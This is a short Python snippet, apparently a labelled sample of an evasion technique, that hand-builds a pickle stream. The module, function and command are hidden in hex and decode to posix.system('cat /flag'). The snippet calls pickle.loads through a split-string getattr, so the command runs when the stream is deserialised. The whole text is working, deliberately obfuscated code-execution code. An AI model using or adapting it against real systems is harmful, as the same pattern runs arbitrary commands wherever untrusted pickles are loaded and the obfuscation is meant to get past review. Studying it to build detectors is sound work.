# technique: hand-assembled pickle stream (GLOBAL + REDUCE opcodes) built from hex, then deserialised
import pickle as _p

mod = bytes.fromhex("706f736978")          # module name
fn = bytes.fromhex("73797374656d")         # function name
arg = bytes.fromhex("636174202f666c6167")  # command
payload = b"c" + mod + b"\n" + fn + b"\n(" + b"V" + arg + b"\ntR."
getattr(_p, "lo" + "ads")(payload)
